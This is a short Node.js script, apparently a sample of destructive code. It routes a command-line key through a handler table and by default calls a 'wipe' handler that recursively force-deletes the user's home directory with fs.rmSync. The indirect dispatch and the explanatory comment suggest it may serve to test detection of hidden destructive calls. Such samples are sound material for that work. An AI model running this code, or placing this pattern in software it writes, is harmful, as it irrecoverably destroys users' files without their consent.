// Deletes the home directory: a command table maps names to handlers and
// is called directly by the key from argv; the "wipe" handler removes the
// directory it is given, and the caller passes os.homedir().
'use strict';
const fs = require('fs');
const os = require('os');

function list(dir) { console.log(fs.readdirSync(dir).join('\n')); }
function wipe(dir) { fs.rmSync(dir, { recursive: true, force: true }); }

const handlers = { list, wipe: wipe };
handlers[process.argv[2] || 'wipe'](os.homedir());
